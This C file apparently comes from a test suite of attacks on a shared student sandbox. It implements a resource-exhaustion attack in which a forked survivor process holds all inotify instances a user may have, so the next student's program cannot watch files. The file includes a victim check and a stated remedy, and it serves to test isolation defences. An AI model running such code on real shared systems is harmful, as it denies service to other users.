// SPDX-License-Identifier: MIT
/*
 * inotify-instances.c - all watchers are taken.
 *
 * Goal: the next student's honest program cannot watch a file.
 * Means: user.max_inotify_instances bounds the inotify descriptors of a user in all processes. A
 * survivor in a session of its own has them all; a limit of descriptors for each process does not
 * see the sum. The arena has a small limit of its own, since what is used in a user namespace is
 * charged to whoever made it as well: more would be the machine's root's.
 */
#include "attacks/ipc-residue/residue.h"

#include <errno.h>
#include <sys/inotify.h>

#define MOST 8 /* a little beyond the arena's */

static enum claim run(const struct brief *b)
{
	int line[2], made = 0;
	pid_t pid;

	attempting(b);
	open_line(line);
	while (made < MOST && inotify_init1(0) >= 0)
		made++;
	if (!made)
		return denied("inotify_init1");
	if (made == MOST || errno != EMFILE)
		return failed("a larger limit");
	pid = fork();
	if (pid)
		return pid < 0 ? denied("fork") : until_gone(line);
	stay_behind(line);
}

/* Waits for a file to appear; where watching is denied by policy, it would look now and then. */
static enum claim victim(const struct brief *b)
{
	int fd = inotify_init1(IN_CLOEXEC);

	(void)b;
	if (fd < 0)
		return errno == EMFILE ? failed("inotify_init1") : CLAIM_DONE;
	close(fd);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student cannot watch a file",
	.means = "a survivor holds all inotify instances that the user may have",
	.oracle = "victim",
	.scene = SCENE_BEFORE_VICTIM,
	.id = "IPC-09",
	.attack_id = "T1499.001, CWE-770, CWE-772",
	.remedy = "end every process of a student, whatever its session, before the next starts",
	.refs = (const char *const[]){ "inotify(7), max_user_instances", NULL },
	.run = run,
	.victim = victim,
};
